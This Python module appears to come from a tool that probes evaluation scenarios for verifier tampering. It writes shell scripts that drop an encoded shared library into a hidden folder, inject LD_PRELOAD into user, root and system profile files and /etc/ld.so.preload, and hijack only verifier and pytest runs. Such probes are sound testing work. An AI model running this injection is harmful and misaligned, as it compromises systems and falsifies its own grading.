"""Has the loader put a library into every program of the verifier: ld.so.preload, or LD_PRELOAD in profile files."""

from __future__ import annotations

import base64
import shlex
from collections.abc import Iterator

from scenlint.dynamic.probes.attack import SKIPPED, Attack
from scenlint.dynamic.probes.base import TAMPERED, probe
from scenlint.dynamic.probes.ground import Ground, put
from scenlint.dynamic.probes.library import library
from scenlint.dynamic.probes.payloads import takes_over

_FOLDER = "/var/tmp/.loader"
_KNOWN = f"""
if [ "$(uname -m)" != x86_64 ] || [ ! -e /lib64/ld-linux-x86-64.so.2 ]; then
  note "{SKIPPED}: the library is for x86-64 and glibc only"
  exit 0
fi
"""
_PROFILES = """
for f in "$HOME/.profile" "$HOME/.bashrc" "$HOME/.bash_profile" "$HOME/.bash_login" "$HOME/.zshenv" /root/.profile \\
    /root/.bashrc /etc/profile.d/loader.sh /etc/bash.bashrc /etc/environment "$PWD/.env" "$PWD/.envrc"; do
  { printf '\\nexport LD_PRELOAD=%s\\n' LIBRARY >> "$f"; } 2>/dev/null && note "wrote $f"
done
"""


@probe("preloaded-library", TAMPERED)
def preloaded_library(ground: Ground) -> Iterator[Attack]:
    if not ground.shared:
        return
    place, program = f"{_FOLDER}/loader.so", f"{_FOLDER}/start"
    # Only what judges is replaced; whatever else is started goes on as it was.
    start = takes_over(ground).replace(
        "#!/bin/sh\n", f'#!/bin/sh\ncase "$*" in *{ground.verifier_folder}/*|*pytest*) ;; *) exec "$@" ;; esac\n', 1
    )
    encoded = base64.b64encode(library(program)).decode()
    script = f"{_KNOWN}mkdir -p {_FOLDER}\nprintf %s {encoded} | base64 -d > {place}\n{put(program, start, '755')}\n"
    yield ground.attack(
        script + _PROFILES.replace("LIBRARY", place), "wrote LD_PRELOAD into the files that shells read", "profiles"
    )
    preload = f"printf '%s\\n' {shlex.quote(place)} | put /etc/ld.so.preload"
    yield ground.attack(script + preload, "named a library of its own in /etc/ld.so.preload", "preload", posture=True)
